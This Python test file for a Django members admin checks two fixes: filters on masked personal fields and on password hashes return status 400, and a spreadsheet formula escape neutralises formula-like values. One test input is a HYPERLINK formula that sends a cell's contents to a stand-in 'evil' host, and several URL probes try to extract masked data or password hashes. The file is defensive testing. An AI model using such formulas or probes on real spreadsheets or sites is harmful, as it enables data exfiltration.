"""Review fixes in the members app: URL filters on masked fields, the shared formula escape."""

from __future__ import annotations

import pytest
from django.urls import reverse

from members.spreadsheets import escape_formula

from .conftest import admin_url

MEMBERS = admin_url("member_changelist")


@pytest.mark.parametrize(
    "query",
    [
        "id_number__startswith=130534",
        "id_number=130534198505050033",
        "phone__endswith=0003",
        "birth_date__year=1985",
        "birth_date__gte=1980-01-01",
        "home_address__contains=路",
    ],
)
def test_secretary_cannot_filter_members_on_masked_fields(org, client_for, query):
    response = client_for("secretary_a").get(f"{MEMBERS}?{query}")
    assert response.status_code == 400
    assert org.member_a.name not in response.text


def test_secretary_cannot_reach_masked_fields_through_a_relation(org, client_for):
    posts = reverse("admin:members_post_changelist")
    client = client_for("secretary_a")
    assert client.get(f"{posts}?member__id_number__startswith=1305").status_code == 400
    assert client.get(f"{posts}?member__phone__endswith=2").status_code == 400
    assert client.get(f"{posts}?unit__members__home_address__contains=x").status_code == 400


def test_lookups_that_are_not_the_admins_filters_are_refused(org, client_for):
    client = client_for("secretary_a")
    assert client.get(f"{MEMBERS}?native_place__contains=河北").status_code == 400
    assert client.get(f"{MEMBERS}?user__username__startswith=mem").status_code == 400
    assert client.get(f"{MEMBERS}?user__password__startswith=pbkdf2").status_code == 400


def test_secretary_filter_links_still_work(org, client_for):
    client = client_for("secretary_a")
    for query in (
        f"unit={org.branch_a.pk}",
        f"unit__id__exact={org.branch_a.pk}",
        "stage__exact=full",
        "status__exact=active",
        "gender__exact=male",
        "overdue=yes",
        "q=李",
    ):
        response = client.get(f"{MEMBERS}?{query}")
        assert response.status_code == 200, query


def test_organiser_list_filters_still_work(org, client_for):
    client = client_for("organiser")
    response = client.get(f"{MEMBERS}?unit={org.branch_a.pk}&stage__exact=full&gender__exact=male")
    assert response.status_code == 200
    assert org.member_a.name in response.text and org.member_b.name not in response.text
    response = client.get(f"{MEMBERS}?unit__id__exact={org.branch_b.pk}")
    assert response.status_code == 200
    assert org.member_b.name in response.text and org.member_a.name not in response.text
    # The organiser may see ID numbers, and finds people by them (search).
    response = client.get(f"{MEMBERS}?q={org.member_a.id_number}")
    assert org.member_a.name in response.text and org.member_b.name not in response.text
    posts = reverse("admin:members_post_changelist")
    assert client.get(f"{posts}?kind__exact=secretary&current=yes").status_code == 200


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil/?"&B3,"x")', '\'=HYPERLINK("http://evil/?"&B3,"x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("李安", "李安"),
        ("", ""),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_escape_formula_prefixes_formula_text_and_leaves_numbers(value, expected):
    assert escape_formula(value) == expected


def test_portal_links_into_other_changelists_still_work(org, client_for):
    """Links built elsewhere (home panels) use lookups the admins declare."""
    client = client_for("organiser")
    reflections = reverse("admin:lessons_reflection_changelist")
    response = client.get(f"{reflections}?is_hidden__exact=0&created_at__date__gte=2026-01-01")
    assert response.status_code == 200
    assert client.get(f"{reflections}?author__username__startswith=o").status_code == 400
    stories = reverse("admin:campaigns_story_changelist")
    assert client.get(f"{stories}?status__exact=nominated").status_code == 200
    assert client.get(f"{stories}?member__id_number__startswith=13").status_code == 400
